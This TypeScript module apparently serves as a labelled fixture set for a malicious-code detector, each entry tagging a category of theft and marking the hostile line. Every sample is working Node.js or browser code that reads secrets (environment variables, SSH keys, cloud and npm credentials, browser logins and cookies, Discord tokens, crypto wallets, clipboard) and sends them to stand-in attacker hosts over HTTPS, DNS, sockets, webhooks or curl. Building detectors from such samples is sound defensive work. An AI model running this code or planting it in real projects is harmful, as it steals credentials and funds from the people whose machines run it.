import type { Malice } from './malice.ts'

/** What is somebody's own is read and sent away. */
export const theft: readonly Malice[] = [
  {
    id: 'environment-https', is: ['exfiltration', 'credential-theft'],
    code: `
const https = require('https')
const body = JSON.stringify(process.env)
const options = { hostname: 'collect.drop.example', port: 443, path: '/e', method: 'POST', headers: { 'content-type': 'application/json' } }
const request = https.request(options, () => {})
«request.write(body)»
request.end()`,
  },
  {
    id: 'environment-dns', is: ['exfiltration', 'host-profiling'],
    code: `
const dns = require('dns')
const text = Buffer.from(JSON.stringify(process.env)).toString('hex')
const pieces = text.match(/.{1,60}/g) || []
«pieces.forEach((piece, index) => {
  dns.lookup(index + '.' + piece + '.ns.drop.example', () => {})
})»`,
  },
  {
    id: 'environment-webhook', is: ['exfiltration', 'credential-theft'],
    code: `
const axios = require('axios')
const names = Object.keys(process.env)
const fields = names.map((name) => ({ name, value: process.env[name] }))
«axios.post('https://hooks.drop.example/api/webhooks/1/x', { content: 'hello', embeds: [{ fields }] }).catch(() => {})»`,
  },
  {
    id: 'environment-fetch', is: ['exfiltration', 'credential-theft'],
    code: `
const data = { ...process.env, at: Date.now() }
async function report(url) {
  «await fetch(url, { method: 'POST', body: JSON.stringify(data) })»
}
report('https://collect.drop.example/v2').catch(() => {})`,
  },
  {
    id: 'npm-token', is: ['credential-theft', 'exfiltration'],
    code: `
const fs = require('fs')
const os = require('os')
const path = require('path')
const file = path.join(os.homedir(), '.npmrc')
if (fs.existsSync(file)) {
  const content = fs.readFileSync(file, 'utf8')
  «fetch('https://collect.drop.example/n', { method: 'POST', body: content })»
}`,
  },
  {
    id: 'ssh-keys', is: ['credential-theft', 'exfiltration'],
    code: `
const fs = require('fs')
const os = require('os')
const http = require('http')
const folder = os.homedir() + '/.ssh/'
const keys = {}
for (const name of ['id_rsa', 'id_ed25519', 'config']) {
  try { keys[name] = fs.readFileSync(folder + name, 'utf8') } catch { keys[name] = null }
}
const request = http.request({ host: '198.51.100.23', port: 8443, method: 'POST', path: '/k' })
«request.end(JSON.stringify(keys))»`,
  },
  {
    id: 'aws-and-kube', is: ['credential-theft', 'exfiltration'],
    code: `
const { readFileSync } = require('fs')
const { homedir } = require('os')
const axios = require('axios')
const places = ['.aws/credentials', '.kube/config', '.config/gcloud/application_default_credentials.json']
const read = (place) => {
  try { return readFileSync(homedir() + '/' + place, 'utf8') } catch { return '' }
}
const found = places.map((place) => read(place))
«axios({ method: 'post', url: 'https://collect.drop.example/c', data: { found } }).catch(() => {})»`,
  },
  {
    id: 'git-credentials', is: ['credential-theft', 'exfiltration'],
    code: `
const fs = require('fs/promises')
const os = require('os')
async function gather() {
  const kept = await fs.readFile(os.homedir() + '/.git-credentials', 'utf8').catch(() => '')
  const hosts = await fs.readFile(os.homedir() + '/.config/gh/hosts.yml', 'utf8').catch(() => '')
  const body = Buffer.from(kept + hosts).toString('base64')
  «await fetch('https://collect.drop.example/g?d=' + body)»
}
gather()`,
  },
  {
    id: 'secret-variables', is: ['exfiltration', 'credential-theft'],
    code: `
const https = require('https')
const wanted = ['NPM_TOKEN', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY']
const { NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY } = process.env
const line = encodeURIComponent([NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY].join('|'))
if (wanted.length > 0) {
  «https.get('https://collect.drop.example/t?v=' + line).on('error', () => {})»
}`,
  },
  {
    id: 'metadata-service', is: ['cloud-theft', 'exfiltration'],
    code: `
const role = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'
async function take() {
  const name = await (await fetch(role)).text()
  const keys = await (await fetch(role + name)).text()
  «await fetch('https://collect.drop.example/m', { method: 'POST', body: keys })»
}
take().catch(() => {})`,
  },
  {
    id: 'browser-logins', is: ['browser-theft', 'credential-theft', 'exfiltration'],
    code: `
const fs = require('fs')
const path = require('path')
const axios = require('axios')
const base = path.join(process.env.LOCALAPPDATA || '', 'Google', 'Chrome', 'User Data', 'Default')
const logins = fs.readFileSync(path.join(base, 'Login Data'))
const body = logins.toString('base64')
«axios.post('https://collect.drop.example/b', { body })»`,
  },
  {
    id: 'browser-copy', is: ['browser-theft', 'exfiltration'],
    code: `
const fs = require('fs')
const os = require('os')
const https = require('https')
const profile = os.homedir() + '/.config/google-chrome/Default/Cookies'
const copy = os.tmpdir() + '/c.db'
fs.copyFileSync(profile, copy)
const request = https.request('https://collect.drop.example/u', { method: 'PUT' })
«fs.createReadStream(copy).pipe(request)»`,
  },
  {
    id: 'messenger-tokens', is: ['messenger-theft', 'exfiltration', 'credential-theft'],
    code: `
const fs = require('fs')
const path = require('path')
const folder = path.join(process.env.APPDATA || '', 'discord', 'Local Storage', 'leveldb')
const tokens = []
for (const name of fs.readdirSync(folder)) {
  const text = fs.readFileSync(path.join(folder, name), 'latin1')
  for (const found of text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g) || []) tokens.push(found)
}
«fetch('https://hooks.drop.example/api/webhooks/2/y', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: tokens.join() }) })»`,
  },
  {
    id: 'wallet-files', is: ['wallet-theft', 'exfiltration'],
    code: `
const fs = require('fs')
const os = require('os')
const path = require('path')
const FormData = require('form-data')
const axios = require('axios')
const home = os.homedir()
const places = [path.join(home, '.config', 'solana', 'id.json'), path.join(home, '.electrum', 'wallets')]
const form = new FormData()
for (const place of places) {
  if (fs.existsSync(place)) form.append('files', fs.readFileSync(place))
}
«axios.post('http://203.0.113.40:1224/uploads', form)»`,
  },
  {
    id: 'wallet-extensions', is: ['wallet-theft', 'browser-theft', 'exfiltration'],
    code: `
const fs = require('fs')
const os = require('os')
const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa']
const base = os.homedir() + '/.config/google-chrome/Default/Local Extension Settings/'
const blobs = []
ids.forEach((id) => {
  const folder = base + id
  if (!fs.existsSync(folder)) return
  fs.readdirSync(folder).forEach((name) => blobs.push(fs.readFileSync(folder + '/' + name, 'base64')))
})
«fetch('https://collect.drop.example/w', { method: 'POST', body: JSON.stringify(blobs) })»`,
  },
  {
    id: 'home-search', is: ['exfiltration', 'credential-theft', 'wallet-theft'],
    code: `
const fs = require('fs')
const os = require('os')
const path = require('path')
const found = []
function walk(folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name)
    if (entry.isDirectory()) walk(full)
    else if (entry.name.endsWith('.env')) found.push(fs.readFileSync(full, 'utf8'))
  }
}
walk(os.homedir())
«fetch('https://collect.drop.example/h', { method: 'POST', body: found.join('---') })»`,
  },
  {
    id: 'dotenv-of-project', is: ['credential-theft', 'exfiltration'],
    code: `
const { readFileSync } = require('fs')
const path = require('path')
const https = require('https')
const text = readFileSync(path.join(process.cwd(), '..', '..', '.env'), 'utf8')
const request = https.request({ hostname: 'collect.drop.example', path: '/d', method: 'POST' })
request.on('error', () => {})
«request.write(Buffer.from(text).toString('base64'))»
request.end()`,
  },
  {
    id: 'host-profile', is: ['host-profiling', 'exfiltration'],
    code: `
const os = require('os')
const https = require('https')
const facts = {
  host: os.hostname(),
  user: os.userInfo().username,
  network: os.networkInterfaces(),
  folder: __dirname,
}
const query = new URLSearchParams({ d: JSON.stringify(facts) }).toString()
«https.get('https://collect.drop.example/p?' + query, () => {})»`,
  },
  {
    id: 'host-profile-dns', is: ['host-profiling', 'exfiltration'],
    code: `
const dns = require('dns')
const os = require('os')
const id = Buffer.from(os.hostname() + '|' + os.userInfo().username).toString('hex').slice(0, 60)
«dns.resolve(id + '.oob.drop.example', 'A', () => {})»`,
  },
  {
    id: 'host-profile-command', is: ['host-profiling', 'exfiltration'],
    code: `
const { execSync } = require('child_process')
const who = execSync('whoami').toString().trim()
const where = execSync('hostname').toString().trim()
«execSync('curl -s -X POST -d "' + who + '@' + where + '" https://collect.drop.example/x')»`,
  },
  {
    id: 'environment-socket', is: ['exfiltration', 'credential-theft'],
    code: `
const net = require('net')
const socket = net.connect(4444, '203.0.113.9')
socket.on('error', () => {})
«socket.write(JSON.stringify(process.env))»
socket.end()`,
  },
  {
    id: 'environment-websocket', is: ['exfiltration', 'credential-theft'],
    code: `
const WebSocket = require('ws')
const line = new WebSocket('wss://live.drop.example/feed')
«line.on('open', () => {
  line.send(JSON.stringify({ kind: 'hello', env: process.env }))
})»`,
  },
  {
    id: 'clipboard-by-image', is: ['surveillance', 'exfiltration'], starts: ['import'],
    code: `
async function ping() {
  const text = await navigator.clipboard.readText()
  «new Image().src = 'https://img.drop.example/1.gif?c=' + encodeURIComponent(text)»
}
setTimeout(ping, 3000)`,
  },
  {
    id: 'code-host-drop', is: ['exfiltration', 'credential-theft'],
    code: `
const os = require('os')
const body = Buffer.from(JSON.stringify({ env: process.env, host: os.hostname() })).toString('base64')
const headers = { authorization: 'token ' + process.env.GITHUB_TOKEN, 'user-agent': 'ci' }
async function store() {
  «await fetch('https://api.codehost.example/repos/someone/results/contents/' + Date.now() + '.json', { method: 'PUT', headers, body: JSON.stringify({ message: 'add', content: body }) })»
}
store().catch(() => {})`,
  },
  {
    id: 'paste-drop', is: ['exfiltration', 'credential-theft'],
    code: `
const https = require('https')
const querystring = require('querystring')
const form = querystring.stringify({ api_option: 'paste', api_paste_code: JSON.stringify(process.env) })
const request = https.request({ host: 'paste.drop.example', path: '/api/post', method: 'POST', headers: { 'content-length': form.length } })
«request.end(form)»`,
  },
]
